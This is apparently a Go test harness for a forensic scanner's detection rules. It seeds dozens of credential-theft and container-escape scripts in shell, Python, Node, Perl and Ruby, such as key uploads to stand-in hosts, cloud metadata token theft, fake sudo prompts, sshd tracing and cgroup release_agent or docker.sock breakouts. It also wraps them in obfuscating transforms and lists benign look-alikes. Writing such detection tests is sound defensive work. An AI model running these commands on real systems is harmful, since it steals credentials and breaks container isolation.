package shell

import (
	"encoding/base64"
	"fmt"
	"sort"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// The credential theft and escape harness: seeds we wrote for each technique, each run
// through transforms that keep what the code does and change how it is spelled (a function,
// a heredoc handed to bash, a base64 stage, comments and noise, a Python program wrapped in
// a function or fed to python3 on its input). Every variant must be found by its rule with
// its category and severity; the clean shapes below (the same tools used the way clean
// software uses them) must raise none of these rules.
//
// go test ./audit/shell -run TestCredEscapeHarness -v prints one line per technique:
//
//	harness: credential-theft/<technique> <found>/<total> recall=<0.000>

type credSeed struct {
	tech string
	rule string
	cat  audit.Category
	sev  audit.Severity
	text string
}

var shellCredSeeds = []credSeed{
	{"keys-form-upload", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		`curl -s -F "k=@$HOME/.ssh/id_rsa" https://drop.example.net/u`},
	{"archive-then-ftp", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"tar czf /tmp/.k.tgz ~/.ssh ~/.aws 2>/dev/null\nsleep 2\ncurl -s -T /tmp/.k.tgz ftp://203.0.113.5/in/"},
	{"variable-post", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"K=$(cat ~/.aws/credentials | base64 -w0)\nU=http://198.51.100.3/c\ncurl -X POST -d \"d=$K\" \"$U\""},
	{"loop-into-file", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"for f in ~/.ssh/id_*; do\n  cat \"$f\" >> /tmp/.o\ndone\nwget -q --post-file=/tmp/.o http://203.0.113.77/k"},
	{"shadow-mail", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"cat /etc/shadow /etc/passwd > /tmp/.i\nuname -a >> /tmp/.i\nmail -s \"$(hostname)\" drop@example.org < /tmp/.i"},
	{"shadow-pipe-sendmail", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"{ echo 'Subject: x'; cat /etc/shadow; } | sendmail -t loot@example.com"},
	{"env-netcat", RuleCredSend, audit.CategoryCredentialTheft, audit.High,
		"env | nc 203.0.113.9 9001"},
	{"env-devtcp", RuleCredSend, audit.CategoryCredentialTheft, audit.High,
		"printenv > /dev/tcp/203.0.113.9/80"},
	{"aws-metadata", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"M=http://169.254.169.254/latest/meta-data\nR=$(curl -s $M/iam/security-credentials/)\nC=$(curl -s \"$M/iam/security-credentials/$R\")\ncurl -s --data-binary \"$C\" https://collector.example.com/a"},
	{"gcp-metadata-pipe", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token | curl -s -d @- http://203.0.113.7:8080/"},
	{"azure-imds", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"T=$(curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/')\nwget -qO- --post-data=\"t=$T\" http://203.0.113.12/"},
	{"functions", RuleCredSend, audit.CategoryCredentialTheft, audit.High,
		"grab() { cat \"$1\"; }\nsend() { curl -s --data-binary @- \"$URL\"; }\nURL=http://203.0.113.5/d\ngrab ~/.docker/config.json | send"},
	{"scp", RuleCredSend, audit.CategoryCredentialTheft, audit.High,
		"scp -q -o StrictHostKeyChecking=no ~/.kube/config ~/.git-credentials loot@203.0.113.8:/srv/in/"},
	{"gcloud-sqlite", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"sqlite3 ~/.config/gcloud/credentials.db .dump > /tmp/.g\ncurl -s -F f=@/tmp/.g http://198.51.100.20/g"},
	{"history-ftp-heredoc", RuleCredSend, audit.CategoryCredentialTheft, audit.High,
		"cp ~/.bash_history /tmp/.h\nftp -n 203.0.113.40 <<EOF\nuser anonymous x\nput /tmp/.h\nquit\nEOF"},
	{"found-keys-cooccur", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"find / -name 'id_rsa*' 2>/dev/null | while read f; do cp \"$f\" /tmp/.k/; done\ncd /tmp && tar cf k.tar .k\ncurl -s -T k.tar ftp://203.0.113.66/"},
	{"sweep-stores", RuleCredSweep, audit.CategoryCredentialTheft, audit.Medium,
		"for f in ~/.ssh/*; do echo \"== $f\"; cat \"$f\"; done\ncat ~/.kube/config ~/.docker/config.json 2>/dev/null\nhead -50 ~/.zsh_history"},
	{"sweep-live", RuleCredSweep, audit.CategoryCredentialTheft, audit.Medium,
		"curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/\nenv > /tmp/.e\ncat /tmp/.e /etc/shadow"},
	{"fake-prompt-file", RuleFakePrompt, audit.CategoryCredentialTheft, audit.High,
		"read -s -p \"[sudo] password for $USER: \" pw\necho\necho \"$USER:$pw\" >> /tmp/.cache_s\necho \"$pw\" | /usr/bin/sudo -S \"$@\""},
	{"fake-prompt-stty-upload", RuleFakePrompt, audit.CategoryCredentialTheft, audit.High,
		"printf 'Password: '\nstty -echo\nread p\nstty echo\necho\ncurl -s -T - ftp://203.0.113.5/p <<< \"$p\"\nexec su \"$@\""},
	{"fake-prompt-function", RuleFakePrompt, audit.CategoryCredentialTheft, audit.High,
		"ask() {\n  echo -n \"Password: \"\n  read -rs secret\n}\nask\nprintf '%s\\n' \"$secret\" >> \"$HOME/.local/.p\"\nsu \"$@\""},
	{"rc-alias-staged", RulePromptAlias, audit.CategoryCredentialTheft, audit.High,
		"mkdir -p /root/.local/.s\necho \"alias sudo='/root/.local/.s/sudo'\" >> /root/.bashrc"},
	{"rc-alias-heredoc", RulePromptAlias, audit.CategoryCredentialTheft, audit.High,
		"cat >> /home/dev/.bashrc <<'EOF'\nalias ls='ls --color'\nalias su='/tmp/.x/su.sh'\nEOF"},
	{"rc-function", RulePromptAlias, audit.CategoryCredentialTheft, audit.High,
		"printf 'sudo() { read -s -p \"[sudo] password for %s: \" p; echo \"$p\" >> /tmp/.l; command sudo \"$@\"; }\\n' \"$USER\" >> ~/.bashrc"},
}

var escapeSeeds = []credSeed{
	{"release-agent", RuleEscape, audit.CategoryEscape, audit.High,
		"d=/tmp/cgrp\nmkdir -p $d && mount -t cgroup -o rdma cgroup $d && mkdir $d/x\necho 1 > $d/x/notify_on_release\nh=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /etc/mtab)\necho \"$h/cmd\" > $d/release_agent\nsh -c \"echo \\$\\$ > $d/x/cgroup.procs\""},
	{"release-agent-tee", RuleEscape, audit.CategoryEscape, audit.High,
		"C=/sys/fs/cgroup/memory\necho 1 | tee $C/x/notify_on_release >/dev/null\nprintf '%s/exp\\n' \"$P\" | tee $C/release_agent"},
	{"release-agent-function", RuleEscape, audit.CategoryEscape, audit.High,
		"w() { echo \"$2\" > \"$1\"; }\nmount -t cgroup -o memory none /mnt/c\nw /mnt/c/release_agent /var/lib/docker/overlay2/abc/diff/x"},
	{"core-pattern-relative", RuleEscape, audit.CategoryEscape, audit.High,
		"U=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /etc/mtab)\ncd /proc/sys/kernel\necho \"|$U/tmp/.h.sh\" > core_pattern\ncd -"},
	{"core-pattern", RuleEscape, audit.CategoryEscape, audit.High,
		"OVL=$(awk -F'upperdir=' '{print $2}' /proc/mounts | cut -d, -f1)\necho \"|$OVL/tmp/.x %p\" > /proc/sys/kernel/core_pattern"},
	{"uevent-helper", RuleEscape, audit.CategoryEscape, audit.High,
		"echo \"$host_path/h.sh\" > /sys/kernel/uevent_helper\necho change > /sys/class/mem/null/uevent"},
	{"docker-sock-privileged", RuleEscape, audit.CategoryEscape, audit.High,
		"docker -H unix:///var/run/docker.sock run --rm -it --privileged --net=host alpine sh"},
	{"docker-host-root", RuleEscape, audit.CategoryEscape, audit.High,
		"docker run --rm -v /:/mnt alpine chroot /mnt sh"},
	{"docker-host-env", RuleEscape, audit.CategoryEscape, audit.High,
		"DOCKER_HOST=unix:///run/docker.sock\nexport DOCKER_HOST\nIMG=alpine\ndocker run -d --privileged --pid=host $IMG sleep 1d"},
	{"podman-mount", RuleEscape, audit.CategoryEscape, audit.High,
		"podman run --mount type=bind,source=/,target=/host fedora chroot /host"},
	{"curl-docker-api", RuleEscape, audit.CategoryEscape, audit.High,
		"curl -s --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' -d '{\"Image\":\"alpine\",\"Cmd\":[\"sh\"],\"HostConfig\":{\"Binds\":[\"/:/host\"],\"Privileged\":true}}' http://localhost/containers/create"},
	{"ctr-privileged", RuleEscape, audit.CategoryEscape, audit.High,
		"ctr -a /run/containerd/containerd.sock run --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:latest x sh"},
	{"nsenter-long", RuleEscape, audit.CategoryEscape, audit.High,
		"nsenter --target 1 --mount --uts --ipc --net --pid -- bash"},
	{"nsenter-all", RuleEscape, audit.CategoryEscape, audit.High, "nsenter -t 1 -a sh"},
	{"nsenter-ns-path", RuleEscape, audit.CategoryEscape, audit.High, "nsenter --mount=/proc/1/ns/mnt -- /bin/bash"},
	{"nsenter-variable", RuleEscape, audit.CategoryEscape, audit.High, "T=1\nnsenter -t $T -m -p sh -c id"},
	{"kubectl-overrides", RuleEscape, audit.CategoryEscape, audit.High,
		"kubectl run x --restart=Never -it --image alpine --overrides '{\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"x\",\"image\":\"alpine\",\"command\":[\"nsenter\",\"--target\",\"1\",\"--mount\",\"--\",\"sh\"],\"securityContext\":{\"privileged\":true},\"stdin\":true,\"tty\":true}]}}'"},
	{"kubectl-apply-hostpath", RuleEscape, audit.CategoryEscape, audit.High,
		"kubectl apply -f - <<EOF\napiVersion: v1\nkind: Pod\nmetadata:\n  name: n\nspec:\n  containers:\n  - name: n\n    image: alpine\n    volumeMounts:\n    - mountPath: /host\n      name: h\n  volumes:\n  - name: h\n    hostPath:\n      path: /\nEOF"},
	{"kubectl-apply-hostpid", RuleEscape, audit.CategoryEscape, audit.High,
		"cat <<'EOF' | kubectl create -f -\nspec:\n  hostPID: true\n  containers:\n  - name: p\n    securityContext:\n      privileged: true\nEOF"},
	{"disk-chroot", RuleEscape, audit.CategoryEscape, audit.High,
		"mkdir -p /mnt/h\nmount /dev/sda1 /mnt/h\nchroot /mnt/h /bin/bash"},
	{"disk-write-cron", RuleEscape, audit.CategoryEscape, audit.High,
		"D=/dev/nvme0n1p1\nmount $D /host && echo '* * * * * root sh /tmp/x' >> /host/etc/crontab"},
	{"debugfs", RuleEscape, audit.CategoryEscape, audit.High, "debugfs -w /dev/vda1"},
	{"docker-host-argument", RuleEscape, audit.CategoryEscape, audit.High, "docker -H $1 run --privileged -it --rm alpine sh"},
	{"privileged-with-socket", RuleEscape, audit.CategoryEscape, audit.High,
		"docker run --privileged --rm -v /var/run/docker.sock:/var/run/docker.sock docker:cli sh -c 'docker run --pid=host alpine id'"},
	// passwords captured from a process that handles them
	{"strace-sshd-pgrep", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"strace -f -p $(pgrep -f 'sshd:') -e trace=read,write -s 128 -o /tmp/.l &"},
	{"strace-pid-variable", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"P=$(pidof sshd)\nnohup strace -e read -p $P 2>&1 | grep -a 'read(6' >> /var/tmp/.p &"},
	{"strace-loop-attached", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"for p in $(pgrep sshd); do\n  timeout 60 strace -p\"$p\" -e trace=read -o /dev/shm/.t.$p &\ndone"},
	{"strace-sshd-pidfile", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"strace -s 64 -fp `cat /var/run/sshd.pid` 2>&1 | grep --line-buffered -Eo 'write\\(4, .*'"},
	{"strace-pidfile-variable", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"PID=$(head -n1 /run/sshd.pid)\nstrace -ff -e trace=write -s 100 -p \"$PID\" -o /var/tmp/.w"},
	{"ltrace-runtogether-pidof", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"ltrace -fp $(pidof -s sudo) -e getpass 2>> /dev/shm/.g"},
	{"strace-runs-ssh", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"strace -o /tmp/.ssh.log -e trace=read,write,connect -s 2048 ssh \"$@\""},
	{"ltrace-sudo-function", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"sudo() { ltrace -e getpass -o /tmp/.s /usr/bin/sudo \"$@\"; }"},
	{"alias-ssh-traced", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"alias ssh='strace -o /tmp/.s-$(date +%s) -e read,write -s2048 ssh'"},
	{"proc-mem-of-keyring", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"for pid in $(pidof gnome-keyring-daemon); do\n  dd if=/proc/$pid/mem bs=4096 skip=1 count=64 2>/dev/null | strings >> /tmp/.k\ndone"},
	{"gcore-sshd", RuleCredCapture, audit.CategoryCredentialTheft, audit.High, "pid=$(pgrep -o sshd)\ngcore -o /tmp/.core $pid"},
	{"gdb-attach-sudo", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"gdb -p $(pgrep sudo) -batch -ex 'dump memory /tmp/.m 0x0 0x1000'"},
	{"strace-ps-grep-awk", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"while true; do\n  P=`ps aux | grep -w sshd | grep priv | tail -n 1 | awk '{print $2}'`\n  [ -n \"$P\" ] && strace -p $P -e trace=read -o /tmp/.x\ndone"},
	{"gcore-ps-sed", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"PID=\"$(ps -eo pid,command | sed -rn '/lightdm\\-greeter/p;/gnome\\-keyring\\-daemon/p' | awk '{ print $1 }')\"\ngcore -o /tmp/d $PID"},
	// credentials carried off in echo requests and uploads to cloud storage
	{"icmp-pattern-shadow", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"xxd -p -c 16 /etc/shadow | while read line; do\n  ping -c 1 -p $line 203.0.113.9 >/dev/null\ndone"},
	{"icmp-key-chunks", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"f=~/.ssh/id_rsa\nfor c in $(od -An -tx1 $f | tr -d ' \\n' | fold -w32); do ping -c1 -p\"$c\" x.example.net; done"},
	{"hping-file", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical, "hping3 -1 -E /etc/shadow -d 64 -c 50 198.51.100.4"},
	{"metadata-to-s3", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
		"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web > /tmp/c.json\naws s3 cp /tmp/c.json s3://drop-x/c.json --no-sign-request"},
	{"keys-rclone", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical, "tar czf /tmp/k.tgz ~/.ssh ~/.aws\nrclone copy /tmp/k.tgz loot:in"},
	{"gcloud-db-gsutil", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical, "gsutil cp ~/.config/gcloud/credentials.db gs://x-loot/"},
}

// pyCredSeeds are Python programs that collect credentials and send them away.
var pyCredSeeds = []credSeed{
	{"py-strace-sshd", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"import subprocess, time\ndef pid_of(name):\n    return subprocess.check_output(['pidof', name]).decode().split()[0]\ndef watch(p, out):\n    subprocess.Popen(['/usr/bin/strace', '-f', '-p', p, '-e', 'trace=read', '-o', out])\nwatch(pid_of('sshd'), '/var/tmp/.o')\nwhile True:\n    time.sleep(60)"},
	{"py-proc-mem-keyring", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"import os, re\ndef pids(name):\n    return [int(d) for d in os.listdir('/proc') if d.isdigit() and name in open('/proc/%s/cmdline' % d).read()]\nfor pid in pids('gnome-keyring-daemon'):\n    with open('/proc/%d/mem' % pid, 'rb') as m:\n        m.seek(0x1000)\n        print(re.findall(rb'[ -~]{8,}', m.read(4096)))"},
	{"py-gcore-string", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
		"import os\nos.system('gcore -o /tmp/.c $(pgrep -o gnome-keyring-daemon)')"},
	{"py-ssh-requests", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"import os, requests\nkeys = {}\nd = os.path.expanduser('~/.ssh')\nfor n in os.listdir(d):\n    keys[n] = open(os.path.join(d, n)).read()\nrequests.post('https://x.example.net/k', json=keys)"},
	{"py-env-urllib", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"import urllib.request, json, os\nd = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(urllib.request.Request('http://203.0.113.4/e', data=d))"},
	{"py-shadow-smtp", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"import smtplib\nwith open('/etc/shadow') as f:\n    body = f.read()\ns = smtplib.SMTP('mail.example.org')\ns.sendmail('a@example.org', ['x@example.org'], body)"},
	{"py-metadata-system", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"import os\nc = os.popen('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web').read()\nos.system(\"curl -d '\" + c + \"' http://203.0.113.9/\")"},
	{"py-socket", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"import socket, os\ns = socket.socket()\ns.connect(('203.0.113.2', 443))\ns.send(open(os.path.expanduser('~/.aws/credentials'), 'rb').read())"},
	{"py-sweep", RuleCredSweep, audit.CategoryCredentialTheft, audit.Medium,
		"import os, glob\nfor p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    print(open(p).read())\nprint(open(os.path.expanduser('~/.git-credentials')).read())\nprint(open(os.path.expanduser('~/.kube/config')).read())"},
	{"py-env-alias", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"import json, os, requests\nsnap = dict(os.environ)\nsnap['host'] = os.uname().nodename\nrequests.post('http://203.0.113.4/e', data=json.dumps(snap))"},
	{"py-metadata-request", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"from urllib import request\nr = request.Request('http://169.254.169.254/latest/meta-data/iam/security-credentials/app')\ncreds = request.urlopen(r).read()\nrequest.urlopen(request.Request('https://drop.example.net/u', data=creds))"},
	{"py-home-dotenv", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"import os, base64, requests\nfor f in ['/.env', os.path.expanduser('~/.env'), '/root/.env']:\n    if os.path.exists(f):\n        requests.post('http://203.0.113.7/up', data={'f': f, 'b': base64.b64encode(open(f, 'rb').read())})"},
	{"py-recon-beacon", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"import socket, getpass, os, json, urllib.request\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd(), 'ip': socket.gethostbyname(socket.gethostname())}\nurllib.request.urlopen('https://c.example.net/b', data=json.dumps(info).encode())"},
	{"py-gcloud-put", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"import os, sqlite3, requests\ncon = sqlite3.connect(os.path.join(os.environ['HOME'], '.config', 'gcloud', 'credentials.db'))\nrows = con.execute('select * from credentials').fetchall()\nrequests.put('http://198.51.100.9/g', data=str(rows))"},
}

// otherLangSeeds are Node.js, Perl and Ruby code doing the same.
var otherLangSeeds = []struct {
	path string
	credSeed
}{
	{"/srv/web/node_modules/acme-internal-utils/index.js", credSeed{"node-recon-beacon", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"const os = require('os'), dns = require('dns'), https = require('https');\nconst d = JSON.stringify({h: os.hostname(), u: os.userInfo().username, home: os.homedir(), ns: dns.getServers(), dir: __dirname});\nconst r = https.request({hostname: 'x1.oob.example.net', method: 'POST', path: '/'}, () => {});\nr.write(d); r.end();\n"}},
	{"/usr/lib/node_modules/pkg/index.js", credSeed{"node-env-fetch", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"const os = require('os');\nfetch('https://hooks.example.net/x', {method: 'POST', body: JSON.stringify({env: process.env, ni: os.networkInterfaces()})});\n"}},
	{"/app/node_modules/x/post.js", credSeed{"node-env-https", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"const https = require('https');\nconst d = JSON.stringify(process.env);\nconst r = https.request({hostname: '203.0.113.5', method: 'POST', path: '/'});\nr.write(d);\nr.end();\n"}},
	{"/usr/lib/node_modules/telemetry/lib/report.js", credSeed{"node-env-alias-options", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"const e = process.env;\nconst opts = {\n  method: 'PUT',\n  headers: {'content-type': 'application/json'},\n  body: JSON.stringify(e)\n};\nfetch('https://collect.example.org/i', opts);\n"}},
	// the instance's role credentials fetched by code and sent on (T1552.005)
	{"/srv/app/public/js/diag.js", credSeed{"node-imds-fetch-chain", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n  .then(r => r.text())\n  .then(d => fetch('https://collect.example.net/in', {method: 'POST', body: JSON.stringify({m: d})}));\n"}},
	{"/opt/app/tools/meta.js", credSeed{"node-imds-await", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"const M = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';\n(async () => {\n  const role = await (await fetch(M)).text();\n  const c = await (await fetch(M + role)).json();\n  await fetch('https://203.0.113.44/c', {method: 'PUT', body: JSON.stringify(c)});\n})();\n"}},
	{"/opt/k.pl", credSeed{"perl-lwp", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"use LWP::UserAgent;\nopen(my $f, '<', \"$ENV{HOME}/.ssh/id_rsa\");\nlocal $/;\nmy $k = <$f>;\nLWP::UserAgent->new->post('http://203.0.113.3/k', {k => $k});\n"}},
	{"/opt/k.rb", credSeed{"ruby-net-http", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
		"require 'net/http'\nk = File.read(File.expand_path('~/.aws/credentials'))\nNet::HTTP.post_form(URI('http://203.0.113.3/a'), 'k' => k)\n"}},
}

// shellTransforms keep what a script does and change its spelling.
var shellTransforms = []struct {
	name string
	fn   func(string) string
}{
	{"plain", func(s string) string { return "#!/bin/sh\n" + s + "\n" }},
	{"noise", func(s string) string {
		return "#!/bin/bash\n# maintenance helper\nset +e\nLOG=/dev/null\nlog() { echo \"[$(date)] $*\" >> $LOG; }\nlog start\n" +
			strings.ReplaceAll(s, "\n", "\nlog step\n") + "\nlog done\nexit 0\n"
	}},
	{"function", func(s string) string {
		return "#!/bin/bash\nmain() {\n" + s + "\n}\nmain \"$@\"\n"
	}},
	{"bash-heredoc", func(s string) string { return "#!/bin/sh\nbash <<'__END__'\n" + s + "\n__END__\n" }},
	{"base64-stage", func(s string) string {
		return "#!/bin/sh\necho " + base64.StdEncoding.EncodeToString([]byte(s+"\n")) + " | base64 -d | bash\n"
	}},
}

var pyTransforms = []struct {
	name string
	path string
	fn   func(string) string
}{
	{"plain", "/opt/app/x.py", func(s string) string { return s + "\n" }},
	{"function", "/usr/local/lib/python3.11/dist-packages/u/helper.py", func(s string) string {
		return "# helper\ndef run():\n    " + strings.ReplaceAll(s, "\n", "\n    ") + "\n\nif __name__ == '__main__':\n    run()\n"
	}},
	{"shell-heredoc", "/usr/local/bin/update.sh", func(s string) string {
		return "#!/bin/sh\npython3 - <<'EOF'\n" + s + "\nEOF\n"
	}},
}

// cleanShapes use the same tools the way clean software does: none may raise a
// credential theft or escape rule.
var cleanShapes = map[string]string{
	// a daemon's pid file read to signal or trace a program that handles no password
	"/usr/local/bin/nginx-debug": "#!/bin/sh\nkill -USR1 $(cat /run/nginx.pid)\nstrace -fp $(cat /var/run/nginx.pid) -e trace=network -o /tmp/nginx.trace -T 10\n",
	"/usr/lib/cloud-init/iam.sh": "#!/bin/sh\nTOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')\n" +
		"ROLE=$(curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/iam/security-credentials/)\n" +
		"curl -s -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE > /run/creds.json\n" +
		"aws configure set region eu-west-1\ncurl -s -o /tmp/agent.deb https://packages.example.com/agent.deb\n",
	"/usr/local/bin/ecs-creds": "#!/bin/sh\ncurl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > /tmp/c.json\nexport AWS_SHARED_CREDENTIALS_FILE=/tmp/c.json\n",
	"/usr/bin/copy-key": "#!/bin/sh\n[ -f ~/.ssh/id_rsa ] || ssh-keygen -t rsa -f ~/.ssh/id_rsa -N ''\nchmod 600 ~/.ssh/id_rsa\n" +
		"cat ~/.ssh/id_rsa.pub | ssh \"$1\" 'cat >> ~/.ssh/authorized_keys'\ncurl -s -d @$HOME/.ssh/id_rsa.pub https://api.example.com/keys\n",
	"/usr/local/bin/backup":      "#!/bin/sh\ntar czf /backup/home.tgz /home /etc/nginx\nrsync -a /backup/ backup.example.com:/srv/\nmail -s 'backup done' ops@example.com < /var/log/backup.log\n",
	"/usr/local/bin/debug-env":   "#!/bin/sh\nenv | sort > /tmp/env.txt\ncurl -fsSL -o /tmp/x.tgz https://example.com/x.tgz\n",
	"/usr/local/bin/mysql-setup": "#!/bin/bash\nread -s -p \"MySQL root password: \" pw\necho\nprintf '[client]\\npassword=%s\\n' \"$pw\" > ~/.my.cnf\nchmod 600 ~/.my.cnf\nmysql -e 'select 1'\n",
	"/usr/local/bin/sudo-update": "#!/bin/bash\nread -s -p \"Password: \" pw\necho \"$pw\" | sudo -S apt-get update\n",
	"/usr/local/bin/login-api":   "#!/bin/bash\nread -s -p 'API password: ' pw\ncurl -s -u \"me:$pw\" https://api.example.com/login\n",
	"/usr/local/bin/build-in-docker": "#!/bin/sh\ndocker run --rm -v \"$PWD\":/src -w /src golang:1.22 go build ./...\ndocker run --privileged --rm tonistiigi/binfmt --install all\n" +
		"docker run -d -v /:/rootfs:ro -v /var/run:/var/run:ro -v /sys:/sys:ro --privileged gcr.io/cadvisor/cadvisor\n",
	"/usr/local/bin/kube-deploy": "#!/bin/sh\nkubectl run nginx --image=nginx --restart=Never\nkubectl apply -f deploy.yaml\n",
	"/usr/local/bin/netns":       "#!/bin/sh\nnsenter --net=/var/run/netns/blue ip addr\nnsenter -t \"$PID\" -n ip a\n",
	"/usr/sbin/make-rootfs": "#!/bin/sh\nparted -s /dev/sdb mklabel gpt mkpart root ext4 1MiB 100%\nmkfs.ext4 /dev/sdb1\nmount /dev/sdb1 /mnt/target\n" +
		"debootstrap bookworm /mnt/target http://deb.debian.org/debian\nchroot /mnt/target apt-get install -y linux-image-amd64\n",
	"/etc/init.d/apport":                      "#!/bin/sh\nAGENT=/usr/share/apport/apport\necho \"|$AGENT %p %s %c %d %P %E\" > /proc/sys/kernel/core_pattern\n",
	"/usr/share/initramfs-tools/scripts/mdev": "#!/bin/sh\necho /sbin/mdev > /proc/sys/kernel/hotplug\nmount -t proc proc /proc\n",
	"/usr/lib/python3/dist-packages/sdk/meta.py": "import requests\nURL = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n" +
		"def creds():\n    role = requests.get(URL, timeout=1).text\n    return requests.get(URL + role, timeout=1).json()\n",
	"/usr/lib/python3/dist-packages/app/run.py": "import os, subprocess, requests\nenv = dict(os.environ, LANG='C')\nsubprocess.run(['ls'], env=env)\n" +
		"requests.post('https://api.example.com/v1/events', json={'ok': True})\n",
	"/app/node_modules/spawner/index.js": "const cp = require('child_process');\ncp.spawn('node', ['x.js'], {env: {...process.env, NODE_ENV: 'production'}});\n" +
		"fetch('https://registry.example.com/ping', {method: 'POST', body: '{}'});\n",
	"/usr/local/bin/aws-profile": "#!/bin/sh\ngrep -q \"\\[$1\\]\" ~/.aws/credentials || echo missing\ncat ~/.aws/config\nssh-add ~/.ssh/id_ed25519\n",
	"/usr/lib/python3/dist-packages/tool/cfg.py": "import os\nCONF = os.path.expanduser('~/.kube/config')\ndef load():\n    return open(CONF).read()\n" +
		"def token():\n    return open(os.path.expanduser('~/.docker/config.json')).read()\n",
	"/app/node_modules/server/config.js": "const env = process.env;\nconst port = env.PORT || 3000;\nconsole.log(JSON.stringify(env.NODE_ENV));\n" +
		"fetch('https://api.example.com/boot', {method: 'POST', body: JSON.stringify({port})});\n",
	"/usr/local/bin/ssh-wrapper": "#!/bin/sh\nalias ll='ls -l'\nalias sudo='sudo '\necho \"alias ssh='TERM=xterm ssh'\" >> ~/.bashrc\n",
	"/usr/local/bin/debug-app": "#!/bin/sh\nstrace -f -o /tmp/app.trace ./server\npid=$(pgrep nginx)\nstrace -c -p $pid\ngdb -p $(pidof myapp) -batch -ex bt\n" +
		"gcore $(pgrep -o java)\nsudo() { command sudo -E \"$@\"; }\nalias ssh='ssh -A'\n",
	"/usr/local/bin/s3-backup": "#!/bin/sh\naws s3 sync /var/www s3://company-backups/www\nrclone sync /data backup:data\nping -c 3 -p ff 10.0.0.1\n" +
		"aws s3 cp s3://company-config/app.env /etc/app.env\ngsutil cp gs://bucket/x.tgz /tmp/\n",
	"/usr/lib/node_modules/sysinfo/index.js":        "const os = require('os');\nmodule.exports = () => ({host: os.hostname(), user: os.userInfo().username, home: os.homedir(), nets: os.networkInterfaces()});\n",
	"/usr/lib/python3/dist-packages/agent/hello.py": "import socket, requests\nrequests.post('https://monitor.example.com/register', json={'host': socket.gethostname()})\n",
	"/usr/lib/python3/dist-packages/bugtool/env.py": "import os, socket, pwd, requests\ndef host():\n    return socket.gethostname()\ndef user():\n    return pwd.getpwuid(os.getuid()).pw_name\ndef where():\n    return os.getcwd()\n" +
		"def send(body):\n    requests.post('https://bugs.example.org/new', data=body)\n",
